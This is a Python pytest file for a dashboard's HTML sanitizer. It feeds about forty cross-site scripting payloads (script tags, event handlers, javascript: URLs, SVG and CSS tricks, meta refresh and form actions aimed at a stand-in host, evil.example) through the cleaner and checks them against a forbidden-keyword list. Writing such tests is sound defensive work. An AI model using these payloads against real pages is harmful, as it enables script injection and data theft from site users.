"""What is let through of a page that hostile scripts have drawn."""

from __future__ import annotations

import pytest

from bdap_hub.dashboards.snapshots.painted import MOST, clean, embed

FORBIDDEN = ("<script", "onerror", "onload", "onclick", "javascript:", "<iframe", "<object", "<embed", "<form", "href",
             "<style", "<link", "<base", "<meta", "url(http", "srcdoc", "xlink", "<use", "<animate", "<set", "<foreign",
             "evil.example", "<!--", "<template", "@import")  # fmt: skip


@pytest.mark.parametrize(
    "hostile",
    [
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example></sCrIpT>",
        "<img src=x onerror=alert(1)>",
        "<img src='https://evil.example/a.png'>",
        "<svg onload=alert(1)></svg>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
        "<a href=' java\nscript:alert(1)'>x</a>",
        "<svg><use xlink:href='data:image/svg+xml;base64,x#x'/></svg>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><set attributeName=onclick to=alert(1)></svg>",
        "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
        "<math><mtext><script>alert(1)</script></mtext></math>",
        "<div style='background:url(https://evil.example/x)'>x</div>",
        "<div style='background:u\\72l(//evil.example)'>x</div>",
        "<div style='width:expression(alert(1))'>x</div>",
        "<div style=\"background:url('javascript:alert(1)')\">x</div>",
        "<style>@import '//evil.example';</style>",
        "<link rel=stylesheet href=//evil.example>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<form action=//evil.example><input name=p></form>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<template><img src=x onerror=alert(1)></template>",
        "<!--><script>alert(1)</script>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?x <script>alert(1)</script>?>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "<textarea></textarea><script>alert(1)</script>",
        "<div title='\"><script>alert(1)</script>'>x</div>",
        "<svg><style>*{background:url(//evil.example)}</style></svg>",
        "<rect fill='url(https://evil.example/#a)'/>",
        "<img src='data:text/html,<script>alert(1)</script>'>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
        "<input formaction=javascript:alert(1) type=image>",
        "<div style='position:/**/fixed;inset:0'>over the whole page</div>",
        "</div></main><script>alert(1)</script>",
    ],
)
def test_nothing_that_runs_loads_or_leads_away(hostile: str):
    cleaned = clean(f"<p>before</p>{hostile}<p>after")
    assert "before" in cleaned
    text = cleaned.replace("&lt;script&gt;alert(1)", "").replace('title="&quot;&gt;', "").lower()
    assert not [word for word in FORBIDDEN if word in text], cleaned
    assert "fixed" not in text
    assert cleaned.count("<p>") == cleaned.count("</p>") and cleaned.count("<div") == cleaned.count("</div>")


def test_what_draws_is_kept():
    drawn = (
        '<div class="widget-slider" style="width: 30%; color: red"><label>n</label><svg viewBox="0 0 9 9">'
        '<defs><clipPath id="a"></clipPath></defs><g clip-path="url(#a)">'
        '<path d="M0 0L9 9" stroke="#345"></path></g></svg>'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="a map"><input type="text" value="3"></div>'
    )
    assert clean(drawn) == drawn.replace(' id="a"', "")
    assert clean("<p>1 &lt; 2 &amp; “3”</p>") == "<p>1 &lt; 2 &amp; “3”</p>"
    assert clean("x" * (MOST + 1)) == ""


def test_places_are_filled_in_their_order():
    page = '<div class="bdap-widget" data-model="a">\n<b></b></div><div class="bdap-widget" data-model="b"></div>'
    filled = embed(page, ["<i>1</i>", "<i>2</i>"])
    assert (
        filled.index('data-model="a"')
        < filled.index("<i>1</i>")
        < filled.index('data-model="b"')
        < filled.index("2</i>")
    )
    assert embed(page, ["<i>1</i>"]) == page  # another page than the one that was painted
